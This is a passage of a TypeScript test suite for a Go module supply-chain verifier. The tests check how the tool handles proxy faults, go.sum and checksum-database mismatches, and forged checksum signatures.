    expect(r.cause!.detail).not.toContain('\n');
    expect(r.origin.h1).toBeNull();
  });

  it('fails verification on a corrupt zip and on a .mod over the size cap', async () => {
    const junk = await verify([{ ...mv, files, zip: Buffer.from('PK\x03\x04 this is not a zip at all') }], { 'o/r': repo() }, mv);
    expect(junk.verdicts).toEqual(['verify-failed']);
    expect(junk.cause?.kind).toBe('corrupt-zip');
    await world!.close();
    const huge = 'x'.repeat((16 << 20) + 1);
    const big = await verify([{ ...mv, files }], { 'o/r': repo() }, mv, {}, { proxyFaults: (q) => (q.endpoint === 'mod' ? { kind: 'status', status: 200, body: huge } : undefined) });
    expect(big.verdicts).toEqual(['verify-failed']);
    expect(big.cause?.kind).toBe('too-large');
  });

  it('fails verification when the proxy does not answer in time', async () => {
    world = await startWorld([{ ...mv, files }], { 'o/r': repo() }, { proxyFaults: (q) => (q.endpoint === 'mod' ? { kind: 'hang' } : undefined) });
    const proxy = new GoProxyClient({ env: readGoEnv({ GOPROXY: world.proxyServer.url, GOSUMDB: 'off' }), http: new HttpClient({ retries: 0, connectTimeoutMs: 200, timeoutMs: 200 }) });
    try {
      const r = await verifyModule(mv, { proxy, origin: world.origin });
      expect(r.verdicts).toEqual(['verify-failed']);
      expect(r.cause).toMatchObject({ kind: 'timeout', source: 'proxy' });
      expect(r.reasons[0]).toMatch(/^could not read the \.mod of github\.com\/o\/r@v1\.0\.0 from the module proxy: proxy .* did not answer within 200 ms/);
    } finally {
      await proxy.close();
    }
  });

  it('fails verification when the proxy does not have the version', async () => {
    const r = await verify([], { 'o/r': repo() }, mv);
    expect(r.verdicts).toEqual(['verify-failed']);
    expect(r.cause).toMatchObject({ kind: 'not-found', source: 'proxy' });
    expect(r.reasons[0]).toMatch(/^could not read the \.info of github\.com\/o\/r@v1\.0\.0 from the module proxy: /);
  });

  it('reports gosum-mismatch for a go.sum hash the proxy content does not match', async () => {
    const wrong = 'h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=';
    const r = await verify([{ ...mv, files, info: { Time: c.committerDate } }], { 'o/r': repo() }, mv, { goSum: { h1: wrong, goModH1: hashGoMod(files['go.mod']) } });
    expect(r.verdicts).toEqual(['gosum-mismatch']);
    expect(r.reasons[0]).toContain(wrong);
    expect(r.origin.h1).toBe(r.proxy.h1);
    expect(r.checksums).toEqual({ goSum: { h1: wrong, goModH1: hashGoMod(files['go.mod']) }, sumdb: null });
  });

  it('agrees with a matching go.sum and reports sumdb-mismatch from the checksum database', async () => {
    const recorded = 'h1:BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB=';
    const r = await verify([{ ...mv, files, info: { Time: c.committerDate } }], { 'o/r': repo() }, mv, {
      sumdb: { lookup: async () => ({ h1: recorded, goModH1: hashGoMod(files['go.mod']) }) },
    });
    const h1 = r.proxy.h1!;
    expect(r.verdicts).toEqual(['sumdb-mismatch']);
    expect(r.reasons[0]).toMatch(/checksum database records h1:B+=.*module content/);
    const again = await verifyModule(mv, { proxy: world!.proxy, origin: world!.origin, goSum: { h1 }, sumdb: { lookup: async () => ({ h1 }) } });
    expect(again.verdicts).toEqual(['consistent']);
    expect(again.reasons.join('\n')).toMatch(/checksum database agrees/);
  });

  it('reports sumdb-invalid when the checksum database answer fails verification', async () => {
    const forged = Object.assign(new Error('github.com/o/r@v1.0.0: SECURITY ERROR: signature by an unknown key'), { kind: 'verification-failed' });
    const r = await verify([{ ...mv, files, info: { Time: c.committerDate } }], { 'o/r': repo() }, mv, { sumdb: { lookup: async () => Promise.reject(forged) } });
    expect(r.verdicts).toEqual(['sumdb-invalid']);
    expect(r.origin.h1).toBe(r.proxy.h1);
    expect(r.checksums?.sumdbInvalid).toBe('SECURITY ERROR: signature by an unknown key');
    const added: RequirementChange = {
      goModPath: 'go.mod', module: mv.path, kind: 'added', from: null, to: mv.version, line: 3, indirect: false, replacement: null, fetch: mv,
    };
    const [f] = divergenceFindings(added, r);
    // Tampering, not an outage: its own rule (disabling `unverifiable` must not silence it), high by default.
    expect(f).toMatchObject({ rule: 'sumdb-invalid', severity: 'high' });
    expect(f!.message).toMatch(/forged checksums/);
  });

  it('notes a version the checksum database does not know, without failing the check', async () => {
    const missing = Object.assign(new Error('not found'), { kind: 'not-found' });
    const r = await verify([{ ...mv, files, info: { Time: c.committerDate } }], { 'o/r': repo() }, mv, { sumdb: { lookup: async () => Promise.reject(missing) } });
    expect(r.verdicts).toEqual(['consistent']);
    expect(r.reasons.join('\n')).toMatch(/checksum database has no record/);
  });

  it('rejects an invalid module version without a network call', async () => {
    world = await startWorld([], {});
    const r = await verifyModule({ path: 'github.com/o/r/v2', version: 'v1.0.0' }, { proxy: world.proxy, origin: world.origin });
    expect(r.verdicts).toEqual(['unverifiable']);
    expect(r.cause?.kind).toBe('invalid-input');
    expect(world.proxyServer.requests).toEqual([]);
  });
});
